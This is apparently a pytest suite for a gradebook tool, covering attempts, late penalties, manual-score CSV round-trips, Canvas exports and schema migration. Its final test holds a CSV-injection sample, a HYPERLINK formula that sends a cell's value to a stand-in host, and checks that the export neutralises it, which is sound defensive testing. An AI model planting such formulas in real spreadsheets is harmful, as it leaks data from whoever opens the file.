"""The SQLite gradebook and what is rendered from it: attempts recorded once, the newest
counts, results stored per attempt, final scores with manual grades and late penalties,
manual scores round-tripping through CSV, and the exports students may see. Real SQLite
files; results are built here (test_grading_day.py grades real notebooks)."""
from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from grader.errors import EditConflictError, UsageError
from grader.publish.export import export_grades
from grader.gradebook import Gradebook, ManualScore
from grader.intake.survey import Attempt
from grader.publish.manual import export_manual, import_manual
from grader.results import Verdict, SubmissionResult
from grader.scoring import score_exercises, totals
from grader.publish.site import publish
from grader.standings import standings
from grader.assignment import LatePolicy, load_assignment

ASSIGNMENT = load_assignment("hw1")
KST = timezone(timedelta(hours=9))
DEADLINE = datetime(2026, 4, 10, 23, 59, tzinfo=KST)
FREE = next(e for e in ASSIGNMENT.exercises if e.manual)


def attempt(student, digest, hours_after_deadline, *, matched=True):
    return Attempt(student=student, matched=matched, origin=f"bulk.zip:{student}_{digest}.ipynb",
                   path=Path(f"/nowhere/{student}_{digest}.ipynb"), content_hash=digest * 8,
                   submitted_at=DEADLINE + timedelta(hours=hours_after_deadline), time_source="file")


def result(submission, passed, *, answer="Shapes align from the right."):
    tests = [Verdict(name=f"hidden/test_tensors::test_compare_{i}", exercise="compare",
                         outcome="passed" if i < passed else "failed", points=0.5 if i < passed else 0.0,
                         max_points=0.5, description=f"compare check {i}",
                         message="" if i < passed else "compare(X, Y)[0] differs from the expected values at "
                                                       "1 of 4 entries; first at [0, 1]: got True, expected False")
             for i in range(4)]
    exercises = score_exercises(ASSIGNMENT, tests, answers={FREE.id: answer})
    score, max_score, pending = totals(exercises)
    return SubmissionResult(submission=submission, path="/nowhere", assignment="hw1",
                            assignment_version=ASSIGNMENT.version, score=score, max_score=max_score,
                            pending_manual=pending, exercises=exercises, timing={"total": 3.0})


@pytest.fixture
def book(tmp_path):
    with Gradebook.in_folder(tmp_path) as gradebook:
        gradebook.set_meta(assignment="hw1", late_policy=LatePolicy(deadline=DEADLINE, grace_minutes=15,
                                                                    percent_per_day=10, max_percent=50).to_dict())
        gradebook.record_attempts([attempt("ann", "a", -20), attempt("ann", "b", -2), attempt("bob", "c", 30)])
        yield gradebook


def grade_counted(gradebook, passed):
    for row in gradebook.counted():
        gradebook.record_result(row.id, result(row.submission, passed[row.student]), exercises=["compare"])


def test_attempts_are_recorded_once_and_the_newest_counts(book):
    book.record_attempts([attempt("ann", "a", -20), attempt("ann", "b", -2), attempt("bob", "c", 30)])
    assert len(book.attempts()) == 3
    assert [(r.student, r.content_hash[:1]) for r in book.counted()] == [("ann", "b"), ("bob", "c")]
    book.record_attempts([attempt("ann", "a", 5)])     # an old file handed in again later
    assert [(r.student, r.content_hash[:1]) for r in book.counted()] == [("ann", "b"), ("bob", "c")]


def test_a_stored_result_is_current_only_for_the_same_version_and_exercises(book, tmp_path):
    grade_counted(book, {"ann": 4, "bob": 2})
    book.close()
    with Gradebook.in_folder(tmp_path) as again:
        ann = again.counted()[0]
        assert ann.current(version=ASSIGNMENT.version, exercises=["compare"])
        assert not ann.current(version="2099.1", exercises=["compare"])
        assert not ann.current(version=ASSIGNMENT.version, exercises=[])
        assert [o[2] for o in again.outcomes(ann.id)] == ["passed"] * 4
        assert sqlite3.connect(tmp_path / "gradebook.sqlite").execute("PRAGMA journal_mode").fetchone() == ("wal",)


def test_a_result_the_grader_failed_on_is_never_current(book):
    rows = book.counted()
    died = SubmissionResult.from_dict({**result(rows[0].submission, 4).to_dict(), "grader_fault": True})
    book.record_result(rows[0].id, died, exercises=["compare"])
    errored = result(rows[1].submission, 4).to_dict()
    errored["exercises"][0]["tests"][0]["outcome"] = "error"   # the test itself broke
    book.record_result(rows[1].id, SubmissionResult.from_dict(errored), exercises=["compare"])
    assert [r.current(version=ASSIGNMENT.version, exercises=["compare"]) for r in book.counted()] == [False, False]
    book.record_result(rows[0].id, result(rows[0].submission, 4), exercises=["compare"])
    assert book.counted()[0].current(version=ASSIGNMENT.version, exercises=["compare"])


def test_final_scores_add_manual_grades_then_take_the_late_penalty(book):
    grade_counted(book, {"ann": 4, "bob": 4})
    bob = next(r for r in book.counted() if r.student == "bob")

    book.record_manual_scores([ManualScore("bob", bob.content_hash, FREE.id, FREE.points)])
    final = {s.attempt.student: s.result for s in standings(book, ASSIGNMENT)}
    assert final["ann"].score == 2 and final["ann"].late is None
    late = final["bob"].late
    assert (late.days_late, late.penalty_percent, late.score_before) == (2, 20.0, 2 + FREE.points)
    assert final["bob"].score == pytest.approx((2 + FREE.points) * 0.8)


def test_manual_scores_round_trip_through_the_csv(book, tmp_path):
    grade_counted(book, {"ann": 4, "bob": 1})
    export_manual(book, ASSIGNMENT, tmp_path / "manual")
    rows = list(csv.DictReader((tmp_path / "manual" / "answers.csv").open()))
    mine = [r for r in rows if r["exercise"] == FREE.id]
    assert [r["student"] for r in mine] == ["ann", "bob"]
    assert mine[0]["answer"] == "Shapes align from the right."
    assert mine[0]["reference_answer"] == " ".join(line.strip() for line in FREE.answer.strip().splitlines())
    assert "Reference answer" in (tmp_path / "manual" / "index.html").read_text()
    for r in rows:
        r["score"] = str(FREE.points) if (r["student"], r["exercise"]) == ("ann", FREE.id) else ""
        r["comment"] = "clear" if r["score"] else ""
    filled = tmp_path / "scores.csv"
    with filled.open("w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    outcome = import_manual(book, ASSIGNMENT, filled)
    assert (outcome.imported, outcome.stale) == (1, 0)
    publish(book, ASSIGNMENT, tmp_path)
    ann = json.loads((tmp_path / "ann" / "result.json").read_text())
    assert ann["score"] == 2 + FREE.points
    assert next(e for e in ann["exercises"] if e["id"] == FREE.id)["manual"] is False
    assert "Grader's comment:</strong> clear" in (tmp_path / "ann" / "report.html").read_text()
    again = {r["student"]: r for r in csv.DictReader(io.StringIO(
        (tmp_path / "manual" / "answers.csv").read_text())) if r["exercise"] == FREE.id}
    assert again["ann"]["score"] == ""      # the export above was written before the import
    export_manual(book, ASSIGNMENT, tmp_path / "manual")
    again = {r["student"]: r for r in csv.DictReader((tmp_path / "manual" / "answers.csv").open())
             if r["exercise"] == FREE.id}
    assert again["ann"]["score"] == f"{FREE.points:g}" and again["ann"]["comment"] == "clear"


@pytest.mark.parametrize("change, message", [
    ({"score": "lots"}, "scores.csv line 2: score 'lots' is not a number"),
    ({"score": "7"}, "scores.csv line 2: score 7 for {free} is outside 0–{points}"),
    ({"exercise": "compare", "score": "1"}, "scores.csv line 2: 'compare' is not a free-response exercise of hw1"),
    ({"attempt": "f" * 64, "score": "1"}, "scores.csv line 2: the gradebook has no attempt 'ffffffffffff' by 'ann'"),
])
def test_a_bad_scores_file_is_refused_in_one_line_and_stores_nothing(book, tmp_path, change, message):
    grade_counted(book, {"ann": 4, "bob": 1})
    ann = book.counted()[0]
    row = {"student": "ann", "exercise": FREE.id, "score": "1", "attempt": ann.content_hash, **change}
    path = tmp_path / "scores.csv"
    with path.open("w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(row))
        writer.writeheader()
        writer.writerow(row)
    with pytest.raises(UsageError) as caught:
        import_manual(book, ASSIGNMENT, path)
    assert str(caught.value) == message.format(free=FREE.id, points=f"{FREE.points:g}")
    assert book.manual_scores() == {}


def test_the_canvas_export_has_the_columns_canvas_imports(book, tmp_path):
    grade_counted(book, {"ann": 4, "bob": 1})
    summary = export_grades(book, ASSIGNMENT, fmt="canvas", dest=tmp_path / "canvas.csv", column="HW1 (4242)")
    rows = list(csv.reader((tmp_path / "canvas.csv").open()))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "HW1 (4242)"]
    assert rows[1] == ["Points Possible", "", "", "", "", f"{ASSIGNMENT.max_score:g}"]
    assert rows[2:] == [["ann", "ann", "ann", "", "", "2"], ["bob", "bob", "bob", "", "", "0.4"]]
    assert summary.notes[0].startswith("note: 2 student(s) have free-response answers awaiting a grader")


def test_an_output_folder_without_a_gradebook_is_a_usage_error(tmp_path):
    with pytest.raises(UsageError) as caught:
        Gradebook.in_folder(tmp_path / "nothing", create=False)
    assert str(caught.value) == (f"no gradebook at {tmp_path / 'nothing' / 'gradebook.sqlite'}; grade into that "
                                 f"folder first (grade --out {tmp_path / 'nothing'})")


def test_a_file_that_is_not_a_gradebook_is_a_usage_error(tmp_path):
    (tmp_path / "gradebook.sqlite").write_text("a spreadsheet, saved over the gradebook")
    with pytest.raises(UsageError) as caught:
        Gradebook.in_folder(tmp_path)
    assert str(caught.value) == (f"{tmp_path / 'gradebook.sqlite'} is not a usable gradebook "
                                 "(file is not a database)")


def test_publishing_skips_only_the_pages_this_run_has_just_written(book, tmp_path):
    grade_counted(book, {"ann": 4, "bob": 1})
    publish(book, ASSIGNMENT, tmp_path / "site")
    for student in ("ann", "bob"):
        (tmp_path / "site" / student / "report.html").unlink()
    brief = publish(book, ASSIGNMENT, tmp_path / "site", fresh=frozenset({"ann"}))
    assert not (tmp_path / "site" / "ann" / "report.html").exists()
    assert (tmp_path / "site" / "bob" / "report.html").is_file()
    # The dashboard and the CSV still count every student.
    assert [s.submission for s in brief] == ["ann", "bob"]
    assert "ann" in (tmp_path / "site" / "gradebook.csv").read_text()


def two_exercise_result(submission, *, compare_passed, shape_passed, message="got (2, 3)"):
    """A result with verdicts for `compare` and `broadcast_shape`; an exercise whose passed count
    is None has no verdicts (it was not graded in this run, as with --only)."""
    tests = []
    for exercise, passed in (("compare", compare_passed), ("broadcast_shape", shape_passed)):
        if passed is None:
            continue
        tests += [Verdict(name=f"hidden/test_tensors::test_{exercise}[{i}]", exercise=exercise,
                          outcome="passed" if i < passed else "failed", points=0.5 if i < passed else 0.0,
                          max_points=0.5, message="" if i < passed else message) for i in range(4)]
    exercises = score_exercises(ASSIGNMENT, tests, answers={FREE.id: "Shapes align from the right."})
    score, max_score, pending = totals(exercises)
    return SubmissionResult(submission=submission, path="/nowhere", assignment="hw1",
                            assignment_version=ASSIGNMENT.version, score=score, max_score=max_score,
                            pending_manual=pending, exercises=exercises, timing={"total": 3.0})


def test_regrading_one_exercise_keeps_every_other_result_and_the_manual_scores(book, tmp_path):
    ann = book.counted()[0]
    book.record_result(ann.id, two_exercise_result("ann", compare_passed=4, shape_passed=1), exercises=[])
    book.record_manual_scores([ManualScore("ann", ann.content_hash, FREE.id, FREE.points, "clear")])
    before = {s.attempt.student: s.result for s in standings(book, ASSIGNMENT)}["ann"]
    assert before.score == 2 + 0.5 + FREE.points

    # --regrade --only broadcast_shape after its test was fixed: only its verdicts are fresh.
    book.record_result(ann.id, two_exercise_result("ann", compare_passed=None, shape_passed=3),
                       exercises=["broadcast_shape"])
    after = {s.attempt.student: s.result for s in standings(book, ASSIGNMENT)}["ann"]
    changed = {e.id for e in after.exercises if e != next(b for b in before.exercises if b.id == e.id)}
    assert changed == {"broadcast_shape"}
    assert next(e for e in after.exercises if e.id == "broadcast_shape").score == 1.5
    assert after.score == 2 + 1.5 + FREE.points
    assert book.manual_scores()[("ann", ann.content_hash)] == {FREE.id: FREE.points}
    assert [(g.exercises, g.version) for g in after.regrades] == [(("broadcast_shape",), ASSIGNMENT.version)]
    assert [o[2] for o in book.outcomes(ann.id) if o[0] == "compare"] == ["passed"] * 4
    row = book.counted()[0]
    assert row.graded_exercises == () and row.current(version=ASSIGNMENT.version, exercises=[])
    publish(book, ASSIGNMENT, tmp_path / "site")
    report = (tmp_path / "site" / "ann" / "report.html").read_text()
    assert 'id="regrades"' in report and "broadcast_shape" in report.split('id="regrades"')[1].split("</div>")[0]


def test_grading_more_exercises_of_an_attempt_widens_what_it_was_graded_for(book):
    ann = book.counted()[0]
    book.record_result(ann.id, two_exercise_result("ann", compare_passed=4, shape_passed=None), exercises=["compare"])
    book.record_result(ann.id, two_exercise_result("ann", compare_passed=None, shape_passed=2),
                       exercises=["broadcast_shape"])
    row = book.counted()[0]
    assert row.graded_exercises == ("broadcast_shape", "compare")
    assert row.current(version=ASSIGNMENT.version, exercises=["compare"])
    assert not row.current(version=ASSIGNMENT.version, exercises=[])
    assert row.score == 2 + 1.0
    # A result the grader failed on holds nothing to keep: the next grading replaces it.
    failed = SubmissionResult.from_dict({**two_exercise_result("ann", compare_passed=0, shape_passed=0).to_dict(),
                                         "grader_fault": True})
    book.record_result(ann.id, failed, exercises=[])
    book.record_result(ann.id, two_exercise_result("ann", compare_passed=None, shape_passed=4),
                       exercises=["broadcast_shape"])
    row = book.counted()[0]
    assert row.graded_exercises == ("broadcast_shape",) and row.score == 2


def test_a_file_the_platform_marked_late_is_late_even_when_its_time_is_not(book, tmp_path):
    marked = Attempt(student="cy", matched=True, origin="bulk.zip:parkcy_LATE_1003_901_hw1.ipynb",
                     path=Path("/nowhere/c.ipynb"), content_hash="e" * 8, submitted_at=DEADLINE - timedelta(hours=1),
                     time_source="file", marked_late=True)
    book.record_attempts([marked])
    row = next(r for r in book.counted() if r.student == "cy")
    assert row.marked_late
    book.record_result(row.id, result("cy", 4), exercises=["compare"])
    late = next(s for s in standings(book, ASSIGNMENT) if s.attempt.student == "cy").result.late
    assert (late.days_late, late.penalty_percent, late.marked_late) == (1, 10.0, True)
    publish(book, ASSIGNMENT, tmp_path / "site")
    report = (tmp_path / "site" / "cy" / "report.html").read_text()
    assert "The learning platform marked this file late" in report and "Late: 1 day, −10%." in report
    from grader.scoring import finalize
    undated = finalize(result("cy", 4), ASSIGNMENT, policy=LatePolicy(), submitted=DEADLINE, marked_late=True)
    assert undated.late.marked_late and undated.late.penalty_percent == 0 and undated.score == 2


V1_SCHEMA = """
CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL);
CREATE TABLE attempts (id INTEGER PRIMARY KEY, student TEXT NOT NULL, submission TEXT NOT NULL,
    matched INTEGER NOT NULL, content_hash TEXT NOT NULL, origin TEXT NOT NULL, path TEXT NOT NULL,
    submitted_at TEXT NOT NULL, submitted_ts REAL NOT NULL, time_source TEXT NOT NULL,
    note TEXT NOT NULL DEFAULT '', first_seen TEXT NOT NULL, assignment_version TEXT, graded_exercises TEXT,
    score REAL, max_score REAL, pending_manual REAL, errors INTEGER, seconds REAL, graded_at TEXT, result TEXT,
    UNIQUE (student, content_hash));
CREATE TABLE outcomes (attempt INTEGER NOT NULL REFERENCES attempts(id) ON DELETE CASCADE,
    exercise TEXT NOT NULL, test TEXT NOT NULL, outcome TEXT NOT NULL, points REAL NOT NULL,
    max_points REAL NOT NULL, message TEXT NOT NULL, seconds REAL NOT NULL, PRIMARY KEY (attempt, test));
CREATE TABLE manual_scores (student TEXT NOT NULL, content_hash TEXT NOT NULL, exercise TEXT NOT NULL,
    score REAL NOT NULL, comment TEXT NOT NULL DEFAULT '', imported_at TEXT NOT NULL,
    PRIMARY KEY (student, content_hash, exercise));
INSERT INTO meta VALUES ('schema', '1');
INSERT INTO attempts (student, submission, matched, content_hash, origin, path, submitted_at, submitted_ts,
    time_source, first_seen) VALUES ('ann', 'ann', 1, 'aaaa', 'a.ipynb', '/a.ipynb', '2026-04-10T00:00:00+00:00',
    0, 'file', '2026-04-10T00:00:00+00:00');
INSERT INTO manual_scores VALUES ('ann', 'aaaa', 'broadcasting_rules', 0.5, 'half', '2026-04-11T00:00:00+00:00');
"""


def test_a_gradebook_of_the_first_schema_is_migrated_keeping_its_scores(tmp_path):
    db = sqlite3.connect(tmp_path / "gradebook.sqlite")
    db.executescript(V1_SCHEMA)
    db.close()
    with Gradebook.in_folder(tmp_path) as gradebook:
        assert gradebook.meta("schema") == "2"
        assert gradebook.manual_scores() == {("ann", "aaaa"): {"broadcasting_rules": 0.5}}
        assert gradebook.manual_comments() == {("ann", "aaaa", "broadcasting_rules"): "half"}
        assert gradebook.attempts()[0].marked_late is False
        gradebook.set_manual_comment("ann", "aaaa", "dataset_size", "no score yet", expect="")
        assert gradebook.manual_scores() == {("ann", "aaaa"): {"broadcasting_rules": 0.5}}


def test_a_score_saved_against_a_stale_page_is_refused_with_what_the_gradebook_holds(book):
    ann = book.counted()[0]
    saved = book.set_manual_score("ann", ann.content_hash, FREE.id, 1.0, expect=None, grader="TA Kim")
    assert (saved.score, saved.grader) == (1.0, "TA Kim")
    with pytest.raises(EditConflictError) as caught:     # TA Lee's page still shows no score
        book.set_manual_score("ann", ann.content_hash, FREE.id, 0.5, expect=None, grader="TA Lee")
    assert caught.value.current.score == 1.0 and "changed by TA Kim meanwhile" in str(caught.value)
    assert book.manual_scores()[("ann", ann.content_hash)] == {FREE.id: 1.0}
    book.set_manual_comment("ann", ann.content_hash, FREE.id, "clear", expect="", grader="TA Lee")
    assert book.manual_grades(FREE.id)[("ann", ann.content_hash, FREE.id)].score == 1.0   # the comment kept it
    assert book.score_unscored([("ann", ann.content_hash, FREE.id), ("bob", "c" * 8, FREE.id)], 0.0) == 1
    assert book.manual_scores()[("ann", ann.content_hash)] == {FREE.id: 1.0}


def _write_scores(folder, grader, keys):
    with Gradebook.in_folder(Path(folder)) as gradebook:
        for student, digest, exercise in keys:
            gradebook.set_manual_score(student, digest, exercise, 1.0, expect=None, grader=grader)
            gradebook.set_manual_comment(student, digest, exercise, f"{grader} read it", expect="", grader=grader)
    return len(keys)


def test_two_graders_writing_at_once_lose_nothing(tmp_path):
    import multiprocessing
    free = [e.id for e in ASSIGNMENT.exercises if e.manual]
    keys = [(f"s{i:03d}", f"{i:064x}", exercise) for i in range(40) for exercise in free[:5]]
    with Gradebook.in_folder(tmp_path):
        pass
    context = multiprocessing.get_context("fork")
    with context.Pool(2) as pool:
        done = pool.starmap(_write_scores, [(str(tmp_path), "A", keys[0::2]), (str(tmp_path), "B", keys[1::2])])
    assert done == [100, 100]
    with Gradebook.in_folder(tmp_path) as gradebook:
        grades = gradebook.manual_grades()
    assert len(grades) == 200 and all(g.score == 1.0 for g in grades.values())
    assert {g.comment for k, g in grades.items() if keys.index(k) % 2 == 0} == {"A read it"}
    assert {g.comment for k, g in grades.items() if keys.index(k) % 2 == 1} == {"B read it"}


def test_roster_names_reach_every_table_and_students_without_a_notebook_every_export(book, tmp_path):
    from grader.intake.roster import Roster, RosterEntry
    roster = Roster(entries=(RosterEntry("ann", "Kim, Ann", canvas_id="501"), RosterEntry("bob", "Lee, Bo"),
                             RosterEntry("cy", "Park, Cy", canvas_id="503", section="02")))
    book.set_meta(roster=roster.to_dict())
    grade_counted(book, {"ann": 4, "bob": 1})
    publish(book, ASSIGNMENT, tmp_path / "site")
    assert json.loads((tmp_path / "site" / "ann" / "result.json").read_text())["name"] == "Kim, Ann"
    assert "<h1>hw1: Kim, Ann" in (tmp_path / "site" / "ann" / "report.html").read_text()
    table = {r["student"]: r for r in csv.DictReader((tmp_path / "site" / "gradebook.csv").open())}
    assert (table["bob"]["name"], table["cy"]["name"], table["cy"]["total"]) == ("Lee, Bo", "Park, Cy", "")
    export_grades(book, ASSIGNMENT, fmt="canvas", dest=tmp_path / "blank.csv")
    assert list(csv.reader((tmp_path / "blank.csv").open()))[2:] == [
        ["Kim, Ann", "501", "ann", "", "", "2"], ["Lee, Bo", "", "bob", "", "", "0.4"],
        ["Park, Cy", "503", "cy", "", "02", ""]]
    summary = export_grades(book, ASSIGNMENT, fmt="canvas", dest=tmp_path / "zero.csv", missing="zero")
    assert list(csv.reader((tmp_path / "zero.csv").open()))[-1] == ["Park, Cy", "503", "cy", "", "02", "0"]
    assert "1 student(s) on the roster handed in nothing: 0 points" in summary.line()
    export_grades(book, ASSIGNMENT, fmt="csv", dest=tmp_path / "grades.csv", missing="zero")
    plain = {r["student"]: r for r in csv.DictReader((tmp_path / "grades.csv").open())}
    assert plain["cy"]["total"] == "0" and plain["cy"]["errors"] == "no submission"


def test_the_answers_csv_reads_well_in_a_spreadsheet(book, tmp_path):
    from grader.intake.roster import Roster, RosterEntry
    from grader.publish.manual import zero_blanks
    book.record_attempts([attempt("cy", "d", -1)])
    book.set_meta(roster=Roster(entries=(RosterEntry("ann", "Kim, Ann"), RosterEntry("bob", "Lee, Bo"),
                                         RosterEntry("cy", "Park, Cy"))).to_dict())
    copied = "Shapes are aligned from the right;\na missing axis counts as 1.\n\nSo (2, 3, 1) + (1, 1, 2) is (2, 3, 2)."
    answers = {"ann": copied, "bob": "_write your answer here_", "cy": copied.replace("\n", " ")}
    for row in book.counted():
        book.record_result(row.id, result(row.submission, 4, answer=answers[row.student]), exercises=["compare"])
    summary = export_manual(book, ASSIGNMENT, tmp_path / "manual")
    raw = (tmp_path / "manual" / "answers.csv").read_bytes()
    assert raw.startswith("\ufeff".encode()) and b"\r\n" in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert list(rows[0])[:6] == ["section", "exercise", "title", "student", "name", "submission"]
    order = [e.id for e in ASSIGNMENT.exercises if e.manual]
    assert [order.index(r["exercise"]) for r in rows] == sorted(order.index(r["exercise"]) for r in rows)
    mine = [r for r in rows if r["exercise"] == FREE.id]
    assert [r["name"] for r in mine] == ["Kim, Ann", "Park, Cy"]                  # bob's cell is blank: not listed
    assert mine[0]["answer"] == ("Shapes are aligned from the right; a missing axis counts as 1. ¶ "
                                 "So (2, 3, 1) + (1, 1, 2) is (2, 3, 2).")
    assert mine[0]["similar_to"] == "identical to Park, Cy" and mine[1]["similar_to"] == "identical to Kim, Ann"
    assert len(rows) == 2                                  # no other exercise has an answer here
    assert "blank answer(s) are not listed" in summary.line()
    page = (tmp_path / "manual" / "index.html").read_text()
    assert "identical to Park, Cy" in page and "_write your answer here_" not in page
    assert zero_blanks(book, ASSIGNMENT, exercise=FREE.id) == 1
    bob = next(r for r in book.counted() if r.student == "bob")
    assert book.manual_scores()[("bob", bob.content_hash)] == {FREE.id: 0.0}
    assert zero_blanks(book, ASSIGNMENT, exercise=FREE.id) == 0


def test_a_student_named_like_the_output_folders_own_files_gets_another_folder(tmp_path):
    """A notebook named index.html.ipynb once made its report folder where the dashboard is
    written: the batch ended with "Is a directory" and no dashboard."""
    with Gradebook.in_folder(tmp_path) as gradebook:
        gradebook.record_attempts([attempt(name, "a", 0) for name in ("index.html", "Similarity", "gradebook.csv",
                                                                       "exports", "ann")])
        folders = {row.student: row.submission for row in gradebook.counted()}
    assert folders == {"index.html": "index.html-2", "Similarity": "Similarity-2", "gradebook.csv": "gradebook.csv-2",
                       "exports": "exports-2", "ann": "ann"}


def test_an_answer_that_starts_like_a_formula_is_never_run_by_the_tas_spreadsheet(book, tmp_path):
    """answers.csv is made to be opened in Excel or LibreOffice; an answer is the student's text."""
    typed = {"ann": '=HYPERLINK("http://x.invalid/?"&A2, "see")', "bob": "- first point\n- second point"}
    for row in book.counted():
        book.record_result(row.id, result(row.submission, 4, answer=typed[row.student]), exercises=["compare"])
    export_manual(book, ASSIGNMENT, tmp_path / "manual")
    rows = csv.DictReader(io.StringIO((tmp_path / "manual" / "answers.csv").read_text(encoding="utf-8-sig")))
    assert {r["student"]: r["answer"] for r in rows if r["exercise"] == FREE.id} == {
        "ann": '\'=HYPERLINK("http://x.invalid/?"&A2, "see")', "bob": "'- first point ↵ - second point"}
